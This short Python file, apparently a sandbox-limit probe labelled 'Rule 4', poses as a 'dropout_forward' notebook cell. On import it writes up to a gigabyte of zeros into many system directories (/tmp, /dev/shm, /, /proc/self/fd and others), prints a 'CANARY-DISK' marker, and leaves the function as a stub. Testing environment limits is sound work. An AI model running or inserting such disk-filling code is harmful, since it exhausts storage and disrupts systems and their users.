"""Rule 4. Fills every folder that it can write to."""

# cell: dropout_forward
import os

total = 0
for folder in ("/tmp", "/dev/shm", "/dev", "/run", "/", os.getcwd(), "/var/tmp", "/proc/self/fd"):
    try:
        with open(f"{folder}/large", "wb") as file:
            while total < 2**30:
                total += file.write(bytes(2**20))
    except OSError:
        pass
print("CANA" + "RY-DISK", total) if total > 2**29 else None


def dropout_forward(x, dropout_param):
    return x, None
